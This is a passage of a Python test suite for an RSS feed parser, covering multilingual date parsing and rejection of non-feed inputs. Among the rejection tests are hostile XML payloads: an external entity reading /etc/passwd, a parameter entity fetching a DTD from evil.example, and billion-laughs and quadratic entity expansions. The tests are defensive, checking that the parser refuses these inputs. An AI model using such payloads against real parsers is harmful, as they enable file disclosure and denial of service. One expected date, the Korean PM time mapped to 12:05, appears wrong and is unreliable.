    "Mon, 02 Mar 2026 09:05:00 UTC+0330": "2026-03-02T05:35:00",
    "Mon,02 Mar 2026 9:5:0 GMT": "2026-03-02T09:05:00",
    "Monday, March 2, 2026 9:05 PM GMT": "2026-03-02T21:05:00",
    "Mar 2, 2026 12:05 AM": "2026-03-02T00:05:00",
    "02 March 2026 02:02:33 p.m.": "2026-03-02T14:02:33",
    "Thur, 05 Mar 2026 10:00:00 GMT": "2026-03-05T10:00:00",
    "Mon, 02 Sept 2026 10:00:00 GMT": "2026-09-02T10:00:00",
    "2026-03-02T09:05:00Z": "2026-03-02T09:05:00",
    "2026-03-02T09:05:00.123456789+01:00": "2026-03-02T08:05:00",
    "2026-03-02T09:05:00,5Z": "2026-03-02T09:05:00",
    "2026-03-02 09:05:00": "2026-03-02T09:05:00",
    "2026-03-02 09:05:00 +0300": "2026-03-02T06:05:00",
    "2026-03-02T09:05Z": "2026-03-02T09:05:00",
    "2026-03-02T0905+0100": "2026-03-02T08:05:00",
    "20260302T090500Z": "2026-03-02T09:05:00",
    "2026-03-02": "2026-03-02T00:00:00",
    "2026/3/2 14:33:00": "2026-03-02T14:33:00",
    "2026/03/02": "2026-03-02T00:00:00",
    "22.11.2025 12:16:00": "2025-11-22T12:16:00",
    "22.11.2025, 12:16": "2025-11-22T12:16:00",
    "22/11/2025 12:16": "2025-11-22T12:16:00",
    "11/22/2025 12:16": "2025-11-22T12:16:00",
    "22-11-2025 12:16:00": "2025-11-22T12:16:00",
    "1772442300": "2026-03-02T09:05:00",
    "1772442300000": "2026-03-02T09:05:00",
    "Mon Mar  2 09:05:00 2026": "2026-03-02T09:05:00",
    "Mon Mar 02 09:05:00 UTC 2026": "2026-03-02T09:05:00",
    "Mon Mar 02 2026 09:05:00 GMT+0100 (CET)": "2026-03-02T08:05:00",
    "Пн, 02 мар 2026 09:05:00 +0300": "2026-03-02T06:05:00",
    "2 марта 2026, 09:05": "2026-03-02T09:05:00",
    "02 марта 2026 г. 09:05:00 MSK": "2026-03-02T06:05:00",
    "lun., 02 mars 2026 09:05:00 +0100": "2026-03-02T08:05:00",
    "mardi 3 février 2026 09:05:00 GMT": "2026-02-03T09:05:00",
    "Mar, 03 Fév 2026 09:05:00 +0000": "2026-02-03T09:05:00",
    "sam., 15 août 2026 09:05:00 +0200": "2026-08-15T07:05:00",
    "Lun, 02 Mar 2026 09:05:00 +0100": "2026-03-02T08:05:00",
    "Gio, 15 Gen 2026 09:05:00 +0100": "2026-01-15T08:05:00",
    "15 gennaio 2026 09:05": "2026-01-15T09:05:00",
    "Mié, 14 Ene 2026 09:05:00 -0300": "2026-01-14T12:05:00",
    "14 de enero de 2026 09:05": "2026-01-14T09:05:00",
    "Ter, 03 Fev 2026 09:05:00 -0300": "2026-02-03T12:05:00",
    "3 de março de 2026 às 09:05": "2026-03-03T09:05:00",
    "Mi, 04 Mär 2026 09:05:00 +0100": "2026-03-04T08:05:00",
    "Do, 31 Dez 2026 09:05:00 +0100": "2026-12-31T08:05:00",
    "4. März 2026, 09:05 Uhr": "2026-03-04T09:05:00",
    "Wo, 06 Mei 2026 09:05:00 +0200": "2026-05-06T07:05:00",
    "Śr, 04 Mar 2026 09:05:00 +0100": "2026-03-04T08:05:00",
    "4 października 2026 09:05": "2026-10-04T09:05:00",
    "Çar, 04 Mar 2026 09:05:00 +0300": "2026-03-04T06:05:00",
    "04 Ağustos 2026 09:05": "2026-08-04T09:05:00",
    "04 Şubat 2026 09:05:00 +0300": "2026-02-04T06:05:00",
    "الاثنين, 02 مارس 2026 09:05:00 +0300": "2026-03-02T06:05:00",
    "٢ مارس ٢٠٢٦ ٠٩:٠٥": "2026-03-02T09:05:00",
    "2 آذار 2026 09:05": "2026-03-02T09:05:00",
    "دوشنبه، ۱۱ اسفند ۱۴۰۴ ۰۹:۰۵": "2026-03-02T09:05:00",
    "سوم مارس ۲۰۲۶": None,
    "3 مارس ۲۰۲۶ 09:05:00 +0330": "2026-03-03T05:35:00",
    "सोम, 02 मार्च 2026 09:05:00 +0530": "2026-03-02T03:35:00",
    "०२ मार्च २०२६ 09:05:00 +0530": "2026-03-02T03:35:00",
    "2026年3月2日 09:05": "2026-03-02T09:05:00",
    "2026年03月02日09时05分": "2026-03-02T09:05:00",
    "星期一, 02 三月 2026 09:05:00 +0800": "2026-03-02T01:05:00",
    "一, 2 3月 2026 09:05:00 +0800": "2026-03-02T01:05:00",
    "2026年3月2日(月) 9時5分": "2026-03-02T09:05:00",
    "月, 02  3月 2026 09:05:00 +0900": "2026-03-02T00:05:00",
    "Thứ hai, 02 tháng 3 2026 09:05:00 +0700": "2026-03-02T02:05:00",
    "2 มีนาคม 2569 09:05:00 +0700": "2026-03-02T02:05:00",
    "ma, 2 marraskuuta 2026 09:05:00 +0200": "2026-11-02T07:05:00",
    "دوشنبه، ۴ جوزا ۱۴۰۵ ۰۹:۰۵:۰۰ +0430": "2026-05-25T04:35:00",
    "সোম, ০২ মার্চ ২০২৬ ০৯:০৫:০০ +0600": "2026-03-02T03:05:00",
    "Душанбе, 2 марти 2026, 09:05": "2026-03-02T09:05:00",
    "2 mart 2026, 09:05 +0500": "2026-03-02T04:05:00",
    "2026년 3월 2일 09:05": "2026-03-02T09:05:00",
    "2026년 3월 2일 오후 9:05": "2026-03-02T12:05:00",
    "2026年3月2日 下午9:05": "2026-03-02T21:05:00",
    "Δευ, 02 Μαρ 2026 09:05:00 +0200": "2026-03-02T07:05:00",
    "Пн, 02 бер 2026 09:05:00 +0200": "2026-03-02T07:05:00",
    "2 березня 2026, 09:05": "2026-03-02T09:05:00",
    "Sen, 02 Mar 2026 09:05:00 +0700": "2026-03-02T02:05:00",
    "2 Agustus 2026 09:05": "2026-08-02T09:05:00",
    "Mon, 32 Foo 2026 99:99:99 GMT": "",
    "yesterday": None,
    "": "",
    "0000-00-00 00:00:00": "",
    "Thu, 01 Jan 1970 00:00:00 GMT": None,
    "Mon, 02 Mar 2026 24:00:00 GMT": "2026-03-03T00:00:00",
    "Mon, 02 Mar 2026 23:59:60 GMT": None,
}
for _written, _at in DATES.items():
    case(f"date: {_written}", dated(_written), E("Ferry resumes", at=_at))
case(
    "dc:date beside an unreadable pubDate",
    rss(
        item(more="<pubDate>soon</pubDate><dc:date>2026-03-02T09:05:00Z</dc:date>"),
        spaces=' xmlns:dc="http://purl.org/dc/elements/1.1/"',
    ),
    E(at="2026-03-02T09:05:00"),
)
for _language, _second, _at in (
    ("", "22/11/2025 10:00", "2025-02-03T09:05:00"),  # another date proves that days come first
    ("", "11/22/2025 10:00", "2025-03-02T09:05:00"),
    ("", "04/05/2025 10:00", "2025-03-02T09:05:00"),
    ("en-us", "04/05/2025 10:00", "2025-03-02T09:05:00"),
    ("en-in", "04/05/2025 10:00", "2025-02-03T09:05:00"),
    ("es", "04/05/2025 10:00", "2025-02-03T09:05:00"),
    ("fr", "11/22/2025 10:00", "2025-03-02T09:05:00"),
):
    case(
        f"slashed dates in {_language or 'no language'} beside {_second}",
        rss(
            item(more="<pubDate>03/02/2025 09:05</pubDate>")
            + item(more=f"<pubDate>{_second}</pubDate>"),
            channel=f"<language>{_language}</language>",
        ),
        E(at=_at),
    )
case("no date at all", rss(item()), E("Ferry resumes", at=""))

# --- no feeds
# ----------------------------------------------------------------------------------------------------------

refuse(
    "a home page",
    '<!DOCTYPE html><html><head><title>Post</title><link rel="alternate" type="application/rss+xml" href="/feeds/all.xml">'
    "</head><body><h1>News</h1></body></html>",
    "https://news.example/feeds/all.xml",
    content_type="text/html",
)
refuse("a page without feeds", "<html><body>Nothing here</body></html>", "web page")
refuse(
    "a captcha",
    "<!DOCTYPE html><html><head><title>Just a moment...</title></head><body><form id='challenge-form' action='/cdn-cgi/challenge'>"
    "Checking your browser before accessing</form></body></html>",
    "check",
)
refuse(
    "a json error",
    '{"error": "rate limited", "code": 429}',
    "JSON",
    content_type="application/json",
)
refuse("json with items of something else", '{"items": [{"sku": 1, "price": 2}]}', "JSON")
refuse("nothing", b"", "empty")
refuse("blanks", b" \n\t\n", "empty")
refuse("a picture", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(64)), "")
refuse("plain words", "Service unavailable. Try again later.", "")
refuse(
    "a list of feeds",
    '<opml version="2.0"><body><outline text="x" xmlUrl="https://news.example/rss"/></body></opml>',
    "OPML",
)
refuse(
    "another xml",
    '<?xml version="1.0"?><Error><Code>AccessDenied</Code><Message>no</Message></Error>',
    "",
)
refuse("svg", '<svg xmlns="http://www.w3.org/2000/svg"><title>Logo</title></svg>', "")
refuse(
    "a file of the system by entity",
    '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + rss(item("&x;"), head=""),
    "attack",
)
refuse(
    "a billion laughs",
    "<!DOCTYPE r ["
    + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
    + "]>"
    + rss(item("&l9;"), head=""),
    "entit",
)
refuse(
    "quadratic growth",
    f'<!DOCTYPE r [<!ENTITY a "{"a" * 50_000}">]>' + rss(item("&a;" * 50_000), head=""),
    "entit",
)
refuse(
    "entities in utf-16",
    (
        '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>'
        + rss(item("&b;"), head="")
    ).encode("utf-16"),
    "entit",
)
refuse(
    "a parameter entity",
    '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]>' + rss(item(), head=""),
    "attack",
)
refuse(
    "entities after a comment",
    '<!--x--><!DOCTYPE r [<!-- y --> <!ENTITY a "a"><!ENTITY b "&a;&a;">]>'
    + rss(item("&b;"), head=""),
    "entit",
)
